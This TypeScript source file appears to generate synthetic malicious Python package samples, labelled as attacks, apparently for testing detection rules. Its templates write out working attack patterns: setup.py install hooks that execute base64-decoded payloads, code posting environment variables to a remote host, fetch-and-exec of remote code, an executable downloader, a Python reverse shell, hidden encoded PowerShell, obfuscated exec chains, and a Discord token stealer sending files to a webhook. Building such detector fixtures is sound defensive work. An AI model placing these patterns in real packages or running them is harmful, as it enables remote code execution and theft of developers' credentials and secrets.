import { type Draw, hidden } from './draw.ts'
import { families } from './family.ts'

const wrapPython = (draw: Draw, body: string): string => draw.filler('python') + body + draw.filler('python')
const digits = (count: number, draw: Draw): string => Array.from({ length: count }, () => draw.number(10)).join('')

/** Attacks on Python packages that the rules were made with. */
export const PYTHON_ATTACKS = families(
  { isAttack: true, isHeld: false },
  {
    'decodes in setup.py': [
      'python at install',
      (draw) =>
        `from setuptools import setup\nfrom setuptools.command.install import install\nimport base64\n\nclass Run(install):\n    def run(self):\n        install.run(self)\n        exec(base64.b64decode("${hidden(draw)}"))\n\nsetup(name="${draw.name()}", cmdclass={"install": Run})\n`,
    ],
    'posts the environment in Python': [
      'python',
      (draw) =>
        wrapPython(draw, `import os, requests\n\nrequests.post("https://${draw.host()}", json=dict(os.environ))\n`),
    ],
    'executes an answer': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          draw.of([
            `import urllib.request\nexec(urllib.request.urlopen("https://${draw.host()}/a").read())\n`,
            `import requests\ncode = requests.get("https://${draw.host()}/a").text\nexec(code)\n`,
          ]),
        ),
    ],
    'downloads and starts in Python': [
      'python at install',
      (draw) =>
        wrapPython(
          draw,
          `import urllib.request, subprocess, os\npath = os.path.join(os.getenv("TEMP", "/tmp"), "${draw.name()}.exe")\nurllib.request.urlretrieve("http://185.2.${draw.number(200)}.4/x.exe", path)\nsubprocess.Popen([path], shell=True)\n`,
        ),
    ],
    'opens a shell in Python': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("${draw.host()}", ${4_000 + draw.number(900)}))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n`,
        ),
    ],
    'starts PowerShell in setup.py': [
      'python at install',
      (draw) =>
        `from setuptools import setup\nimport subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ${hidden(draw).replaceAll('=', '')}', shell=True)\nsetup(name="${draw.name()}")\n`,
    ],
    'deciphers and executes': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `from cryptography.fernet import Fernet\nexec(Fernet(b'${hidden(draw).slice(0, 44)}').decrypt(b'${hidden(draw)}'))\n`,
        ),
    ],
    'unpacks and executes': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import zlib, base64, marshal\n_ = lambda text: zlib.decompress(base64.b64decode(text[::-1]))\nexec(marshal.loads(_(b'${hidden(draw)}')))\n`,
        ),
    ],
    'steals sessions': [
      'python',
      (draw) =>
        wrapPython(
          draw,
          `import os, requests\nroot = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")\nfor name in os.listdir(os.path.join(os.getenv("APPDATA"), "discord/Local Storage/leveldb")):\n    text = open(os.path.join(root, name), errors="ignore").read()\n    requests.post("https://discord.com/api/webhooks/${digits(18, draw)}/${'xY3'.repeat(21)}", json={"content": text})\n`,
        ),
    ],
    'starts with Python': [
      'python at install',
      (draw) => `import os;exec(__import__('base64').b64decode('${hidden(draw)}'))\n`,
    ],
  },
)
